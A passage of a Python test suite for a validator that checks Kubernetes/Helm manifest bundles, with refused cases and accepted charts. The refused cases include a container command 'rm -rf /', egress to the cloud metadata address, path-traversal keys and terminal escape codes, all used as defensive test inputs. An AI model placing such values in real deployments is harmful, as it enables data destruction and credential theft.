    "a policy out to the metadata service": (
        policy(egress=[{"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "169.254.169.254/32"}}]}]),
        "ipBlock.cidr",
    ),
    "a policy out to everything, by network": (
        policy(egress=[{"ports": [{"port": 80}], "to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]),
        r"egress\[0\].to\[0\]",
    ),
    "a policy out to a service that it does not call": (
        policy(
            egress=[
                {"ports": [{"port": 8000}], "to": [{"podSelector": {"matchLabels": {"app": "backend-api"}}}]}
            ]
        ),
        r"egress\[0\].to\[0\]",
    ),
    "a policy out to all Pods": (
        policy(egress=[{"ports": [{"port": 8000}], "to": [{"podSelector": {}}]}]),
        r"egress\[0\].to\[0\]",
    ),
    "a policy out to all namespaces": (
        policy(egress=[{"ports": [{"port": 8000}], "to": [{"namespaceSelector": {}}]}]),
        r"egress\[0\].to\[0\]",
    ),
    "a budget of nothing as a share": (budget(maxUnavailable="0%"), "maxUnavailable"),
    "a budget of all": (budget(minAvailable="100%"), "minAvailable"),
    "a budget of all but none, as a share": (budget(minAvailable="67%"), "minAvailable"),
    "a budget of all, as a number": (budget(minAvailable=3), "minAvailable"),
    "a budget of more": (budget(minAvailable=10**9), "minAvailable"),
    "a budget twice": (budget(minAvailable=1, maxUnavailable=1), "exactly one"),
    "a metric of the cloud's": (
        metric(type="External", external={"metric": {"name": "sqs"}, "target": {"type": "Value"}}),
        "type|external",
    ),
    "a metric of another object": (
        metric(type="Object", object={"describedObject": {"kind": "Service", "name": "backend-api"}}),
        "type|object",
    ),
    "an autoscaler that never goes down": (
        scaled(behavior={"scaleDown": {"selectPolicy": "Disabled"}}),
        "selectPolicy",
    ),
    "an autoscaler that waits for a year": (
        scaled(behavior={"scaleDown": {"stabilizationWindowSeconds": 31536000}}),
        "stabilizationWindowSeconds",
    ),
    "a Deployment that is paused": (
        [{**deployment(), "spec": {**deployment()["spec"], "paused": True}}],
        "spec.paused",
    ),
    "a thousand old ReplicaSets": (
        [{**deployment(), "spec": {**deployment()["spec"], "revisionHistoryLimit": 1000}}],
        "revisionHistoryLimit",
    ),
    # Sizes and shapes.
    "a ConfigMap as large as the bundle": (
        extra("ConfigMap", "website-x", data={"a": "x" * 300_000}),
        "data.a",
    ),
    "a ConfigMap that cannot change": (extra("ConfigMap", "website-x", immutable=True), "immutable"),
    "a ConfigMap's key that goes up": (extra("ConfigMap", "website-x", data={"../x": "a"}), "data"),
    "a number as a value": (extra("ConfigMap", "website-x", data={"a": 1}), "data.a is 1"),
    "half a character": (extra("ConfigMap", "website-x", data={"a": "\ud800"}), "data.a"),
    "what is not base64": (extra("ConfigMap", "website-x", binaryData={"a": "\u00e4"}), "binaryData.a"),
    "twenty-one ConfigMaps": (configs(*(f"website-{i}" for i in range(21))), "21 of kind ConfigMap"),
    "a hundred containers": (pod(containers=[main(), *[beside()] * 100]), "spec.containers has 101 entries"),
    "a thousand variables": (one(env=[{"name": "A", "value": "1"}] * 1000), "env has 1000 entries"),
    "a variable that is a number": (one(env=[{"name": "A", "value": 1}]), r"env\[0\].value is 1; write text"),
    "a variable that is true": (one(env=[{"name": "A", "value": True}]), r"env\[0\].value is true"),
    "a variable from nowhere": (one(env=[{"name": "A", "valueFrom": {}}]), "write exactly one"),
    "a command that is text": (one(command="rm -rf /"), "command is 'rm -rf /'; it must be a list"),
    "containers as an object": (pod(containers={"a": main()}), "containers is an object"),
    "null in a list": (pod(containers=[main(), None]), r"containers\[1\] is null"),
    "a document that is a list": ([deployment(), []], "not a Kubernetes object"),  # type: ignore[list-item]
    "a document that is null": ([deployment(), None], "not a Kubernetes object"),  # type: ignore[list-item]
    "a kind in other letters": (extra("configmap", "website-x"), "configmap website-x: not allowed"),
    "a kind that is a list": (extra(["ConfigMap"]), "not a Kubernetes object"),  # type: ignore[arg-type]
    "an API of another name": (
        extra("ConfigMap", "website-x", api="v1beta1"),
        "apiVersion is 'v1beta1'; write v1",
    ),
    "a field of another kind": (extra("ConfigMap", "website-x", spec={}), "spec is not allowed"),
    "a number without measure": (
        pod(terminationGracePeriodSeconds=10**5000),
        "terminationGracePeriodSeconds",
    ),
    "not a number": (pod(terminationGracePeriodSeconds=float("nan")), "terminationGracePeriodSeconds"),
    "a field of a thousand letters": (pod(**{"x" * 1000: 1}), r"spec\['xxx.*not allowed"),
    "a field that writes to the terminal": (pod(**{"a\x1b[2J": 1}), r"spec\['a\\x1b"),
}


@pytest.mark.parametrize("case", [*SHOWN, *OURS])
def test_a_bundle_reaches_no_further_than_its_service(case: str) -> None:
    bundle, path = {**SHOWN, **OURS}[case]
    before = copy.deepcopy(bundle)
    if not path:
        made = from_bundle(bundle, slot())
        assert beyond(made, slot()) == []
    else:
        with pytest.raises(InvalidInput, match=path) as refused:
            from_bundle(bundle, slot())
        assert str(refused.value).isascii() and str(refused.value).isprintable()
        assert len(str(refused.value)) < 900
    assert bundle == before


def test_every_case_that_was_shown_is_there_and_as_many_again() -> None:
    assert (len(SHOWN), sum(not path for _, path in SHOWN.values())) == (61, 4)
    assert len(OURS) >= 60 and not SHOWN.keys() & OURS.keys()


HARMLESS: dict[str, list[Manifest]] = {
    "nulls where a chart has nothing to say": [
        deployment(
            {"volumes": None, "nodeSelector": None, "hostAliases": None, "imagePullSecrets": None},
            labels=None,
        ),
        {**served()[1], "status": None},
    ],
    "what is off already": pod(hostNetwork=False, hostPID=False, hostIPC=False, shareProcessNamespace=False),
    "what is as strict as ours": one(
        securityContext={
            "privileged": False,
            "allowPrivilegeEscalation": False,
            "readOnlyRootFilesystem": True,
            "runAsNonRoot": True,
            "runAsUser": 101,
            "seccompProfile": {"type": "RuntimeDefault"},
            "capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]},
        }
    ),
    "an empty context": one(securityContext={}),
    "an account of the chart's, with a token in its object": [
        deployment({"serviceAccountName": "release-name-web"}),
        *extra("ServiceAccount", "release-name-web", automountServiceAccountToken=True)[1:],
    ],
    "no account of the chart's": pod(serviceAccountName="default"),
    "labels as Helm's scaffold writes them": labelled(
        **{
            "helm.sh__chart": "website-1.2.3",
            "app.kubernetes.io__name": "website",
            "app.kubernetes.io__instance": "release-name",
            "app.kubernetes.io__version": "1.2.3",
            "app.kubernetes.io__managed-by": "Helm",
            "tier": "frontend",
        }
    ),
    "annotations of checksums and Prometheus": [
        deployment(
            pod_metadata={
                "annotations": {"checksum/config": "a", "prometheus.io/scrape": "true", "team": "web"}
            }
        )
    ],
    "a name for the Pods": [deployment(pod_metadata={"name": "website", "creationTimestamp": None})],
    "a sidecar of the catalog": pod(containers=[main(), beside()]),
    "a native sidecar": pod(initContainers=[beside(restartPolicy="Always")]),
    "migrations from the service's own image": pod(
        initContainers=[main(name="migrate", command=["migrate"])]
    ),
    "an image that is pinned with its tag": pod(
        containers=[main(), beside(image=f"{PROXY}:1.2@sha256:{'c' * 64}")]
    ),
    "its own Secret and claim": volume(secret={"secretName": "website-tls", "defaultMode": 0o400}),
    "its own claim": volume(persistentVolumeClaim={"claimName": "website-data"}),
    "its own pull secret": pod(imagePullSecrets=[{"name": "website-registry"}]),
    "a pull secret of the catalog": pod(
        imagePullSecrets=[{"name": "shared-registry"}, {"name": "website-registry"}]
    ),
    "memory as a file system": volume(emptyDir={"medium": "Memory", "sizeLimit": "64Mi"}),
    "where it runs, for its traces": one(
        env=[
            {"name": "POD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
            {
                "name": "VERSION",
                "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['app.kubernetes.io/version']"}},
            },
            {"name": "CPUS", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu"}}},
        ]
    ),
    "quantities that YAML made numbers of": one(resources={"limits": {"cpu": 1, "memory": 1073741824}}),
    "kept apart by expressions": [
        deployment(
            anti(
                labelSelector={"matchExpressions": [{"key": "app", "operator": "In", "values": ["website"]}]}
            )[0]["spec"]["template"]["spec"],
            pod_metadata={"labels": {"app": "website"}},
        )
    ],
    "nodes of an architecture": node("kubernetes.io/arch", "arm64"),
    "a node that is away for a while": pod(
        tolerations=[{"key": "node.kubernetes.io/not-ready", "effect": "NoExecute", "tolerationSeconds": 30}]
    ),
    "a headless Service": served(clusterIP="None"),
    "a second Service for metrics": [
        *served(),
        extra("Service", "website-metrics", spec={"ports": [{"name": "metrics", "port": 9090}]})[1],
    ],
    "a policy in from anywhere to its port": policy(ingress=[{"ports": [{"port": "http"}]}]),
    "a policy out to names, HTTPS, a store and a declared service": policy(
        policyTypes=["Ingress", "Egress"],
        ingress=[
            {"ports": [{"port": 3000}], "from": [{"namespaceSelector": {"matchLabels": {"team": "edge"}}}]}
        ],
        egress=[
            {
                "ports": [{"port": 53, "protocol": "UDP"}],
                "to": [{"namespaceSelector": {}, "podSelector": {}}],
            },
            {"ports": [{"port": 443}]},
            {"ports": [{"port": 9092}], "to": [{"ipBlock": {"cidr": "10.1.2.0/24"}}]},
            {"ports": [{"port": 8080}], "to": [{"podSelector": {"matchLabels": {"app": "api-gateway"}}}]},
        ],
    ),
    "a budget by number": budget(minAvailable=2),
    "a budget by share": budget(maxUnavailable="1%"),
    "scaling by memory and by the Pods' own metric": scaled(
        metrics=[
            {
                "type": "Resource",
                "resource": {"name": "memory", "target": {"type": "Utilization", "averageUtilization": 80}},
            },
            {
                "type": "Pods",
                "pods": {
                    "metric": {"name": "queue"},
                    "target": {"type": "AverageValue", "averageValue": "10"},
                },
            },
        ],
        behavior={
            "scaleUp": {
                "policies": [{"type": "Pods", "value": 4, "periodSeconds": 15}],
                "selectPolicy": "Max",
            }
        },
    ),
    "probes by command, TCP and gRPC": [
        deployment(
            {
                "containers": [
                    main(
                        livenessProbe={"exec": {"command": ["true"]}},
                        readinessProbe={"tcpSocket": {"port": "http"}, "periodSeconds": 5},
                        startupProbe={"grpc": {"port": 3000}},
                        lifecycle={"preStop": {"exec": {"command": ["sleep", "30"]}}},
                    )
                ]
            }
        )
    ],
    "spread over zones by its own labels": [
        deployment(
            {
                "topologySpreadConstraints": [
                    {
                        "maxSkew": 1,
                        "topologyKey": "topology.kubernetes.io/zone",
                        "whenUnsatisfiable": "DoNotSchedule",
                        "labelSelector": {"matchLabels": {"app": "website"}},
                    }
                ]
            },
            pod_metadata={"labels": {"app": "website"}},
        )
    ],
}


def scaffold(name: str, release: str) -> list[Manifest]:
    """What `helm create` and `helm template` make without any change but the image and its port."""
    chosen = {"app.kubernetes.io/name": name, "app.kubernetes.io/instance": release}
    labels = {
        "helm.sh/chart": f"{name}-0.1.0",
        **chosen,
        "app.kubernetes.io/version": "1.16.0",
        "app.kubernetes.io/managed-by": "Helm",
    }
    full = name if name in release else f"{release}-{name}"
    metadata = {"name": full, "labels": labels}
    probes = {
        f"{kind}Probe": {"httpGet": {"path": "/", "port": "http"}} for kind in ("liveness", "readiness")
    }
    container = {
        "name": name,
        "image": f"{IMAGE}:1.16.0",
        "imagePullPolicy": "IfNotPresent",
        "ports": [{"name": "http", "containerPort": 3000, "protocol": "TCP"}],
        **probes,
    }
    return [
        {
            "apiVersion": "v1",
            "kind": "ServiceAccount",
            "metadata": metadata,
            "automountServiceAccountToken": True,
        },
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": metadata,
            "spec": {
                "type": "ClusterIP",
                "ports": [{"port": 80, "targetPort": "http", "protocol": "TCP", "name": "http"}],
                "selector": chosen,
            },
        },
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": metadata,
            "spec": {
                "selector": {"matchLabels": chosen},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {"serviceAccountName": full, "containers": [container]},
                },
            },
        },
        {
            "apiVersion": "autoscaling/v2",
            "kind": "HorizontalPodAutoscaler",
            "metadata": metadata,
            "spec": {
                "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": full},
                "minReplicas": 1,
                "maxReplicas": 100,
                "metrics": [
                    {
                        "type": "Resource",
                        "resource": {
                            "name": "cpu",
                            "target": {"type": "Utilization", "averageUtilization": 80},
                        },
                    }
                ],
            },
        },
    ]


HARMLESS |= {
    "Helm's scaffold": scaffold("website", "website"),
    "Helm's scaffold without a release's name": scaffold("website", "release-name"),
    "one chart for all services": scaffold("microservice", "website"),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_what_honest_charts_hold_is_taken(case: str) -> None:
    made = from_bundle(HARMLESS[case], slot())
    assert beyond(made, slot()) == []
    kinds = {(kind.api_version, kind.kind): kind for kind in KINDS}
    for manifest in made:
        kind = kinds[manifest["apiVersion"], manifest["kind"]]
        assert check(manifest, kind.model) == ([], [])
        validate(kind, with_defaults(manifest), None)


def test_a_name_belongs_to_the_longest_service_that_it_begins_with() -> None:
    api, gateway = (service(name=name) for name in ("api", "api-gateway"))
    settings = [{**deployment(), "metadata": {"name": "x"}}, *configs("api-gateway-settings")[1:]]
    for each in settings[0]["spec"]["template"]["spec"]["containers"]:
        each.update(image=f"{api.image}:1", ports=[{"containerPort": api.port}])
    assert beyond(from_bundle(settings, slot(service=gateway)), slot(service=gateway)) == []
    with pytest.raises(InvalidInput, match=r"ConfigMap api-gateway-settings: metadata.name"):
        from_bundle(settings, slot(service=api))


def test_a_name_that_the_slot_makes_another_services_is_refused() -> None:
    """A catalog may call a service `website-blue-team`; nothing of website's blue slot may end up as its own."""
    made = slot(slot="blue", services=("website", "website-x-blue"))
    with pytest.raises(InvalidInput, match="website-x-blue's"):
        from_bundle(configs("website-x"), made)


def test_production_keeps_off_spot_nodes_whatever_a_chart_says_of_nodes() -> None:
    for bundle in (pod(affinity={}), node("kubernetes.io/arch", "arm64"), pod(affinity={"nodeAffinity": {}})):
        made = next(each for each in from_bundle(bundle, slot()) if each["kind"] == "Deployment")
        terms = made["spec"]["template"]["spec"]["affinity"]["nodeAffinity"][NODE_AFFINITY][
            "nodeSelectorTerms"
        ]
        kept = {"key": "eks.amazonaws.com/capacityType", "operator": "NotIn", "values": ["SPOT"]}
        assert terms and all(kept in term["matchExpressions"] for term in terms)


def test_elsewhere_spot_nodes_are_tolerated() -> None:
    staging = slot(environment=environment(production=False))
    bundle = pod(
        tolerations=[{"key": "eks.amazonaws.com/capacityType", "value": "SPOT", "effect": "NoSchedule"}],
        nodeSelector={"eks.amazonaws.com/capacityType": "SPOT"},
    )
    assert beyond(from_bundle(bundle, staging), staging) == []


def test_a_direction_that_a_chart_says_nothing_of_is_the_catalogs() -> None:
    def rules(bundle: list[Manifest]) -> Manifest:
        found = [each for each in from_bundle(bundle, slot()) if each["kind"] == "NetworkPolicy"]
        assert [each["metadata"]["name"] for each in found] == ["website-green"]
        return dict(found[0]["spec"])

    own, ingress = rules([deployment()]), {"ports": [{"port": 3000}], "from": [{"podSelector": {}}]}
    assert rules(policy(ingress=[ingress])) == {**own, "ingress": [ingress]}
    assert rules(policy(policyTypes=["Egress"])) == {**own, "egress": []}
    two = [*policy(ingress=[ingress]), policy(ingress=[{"ports": [{"port": "http"}]}])[1]]
    two[2]["metadata"] = {"name": "website-more"}
    assert rules(two) == {**own, "ingress": [ingress, {"ports": [{"port": "http"}]}]}


def test_a_budget_that_would_keep_the_node_of_a_single_pod_is_the_catalogs() -> None:
    """Charts ask for one at least; development has one at most."""
    single = service(name="website", image=IMAGE, port=3000, replicas=Replicas(min=1, max=1))
    small = slot(service=single, replicas=single.replicas)
    for said in (budget(minAvailable=1), budget(minAvailable="50%")):
        made = next(each for each in from_bundle(said, small) if each["kind"] == "PodDisruptionBudget")
        assert made["spec"]["maxUnavailable"] == "25%" and "minAvailable" not in made["spec"]
        made = next(each for each in from_bundle(said, slot()) if each["kind"] == "PodDisruptionBudget")
        assert made["spec"]["minAvailable"] == said[1]["spec"]["minAvailable"]


def test_an_emptydir_has_an_end() -> None:
    made = next(each for each in from_bundle(volume(emptyDir={}), slot()) if each["kind"] == "Deployment")
    volumes = made["spec"]["template"]["spec"]["volumes"]
    assert volumes[0] == {"name": "v", "emptyDir": {"sizeLimit": "1Gi"}}


def parts(node: Any) -> list[tuple[Any, Any]]:
    """Every value of a document with the key that it stands at."""
    pairs = (
        list(node.items())
        if isinstance(node, dict)
        else list(enumerate(node))
        if isinstance(node, list)
        else []
    )
    return [*pairs, *(each for _, value in pairs for each in parts(value))]


BUNDLES = [*(bundle for bundle, _ in (SHOWN | OURS).values() if len(bundle) < 30), *HARMLESS.values()]
PIECES = [pair for bundle in BUNDLES for pair in parts(bundle)]
PLACES = st.integers(0, 10**6)


@given(st.sampled_from(BUNDLES), st.lists(st.tuples(PLACES, st.sampled_from(PIECES)), min_size=1, max_size=6))
def test_any_mixture_of_attacks_and_honest_charts_is_refused_by_path_or_stays_with_its_service(
    bundle: list[Manifest], grafts: list[tuple[int, tuple[Any, Any]]]
) -> None:
    mixed = copy.deepcopy(bundle)
    for place, (key, value) in grafts:
        inside = [mixed, *(each for _, each in parts(mixed) if isinstance(each, (dict, list)))]
        into = inside[place % len(inside)]
        if isinstance(into, dict):
            into[key if isinstance(key, str) else "name"] = copy.deepcopy(value)
        else:
            into.insert(0, copy.deepcopy(value))
    try:
        made = from_bundle(mixed, slot())
    except InvalidInput as refused:
        assert str(refused).startswith("bundle: ")
        return
    assert beyond(made, slot()) == []
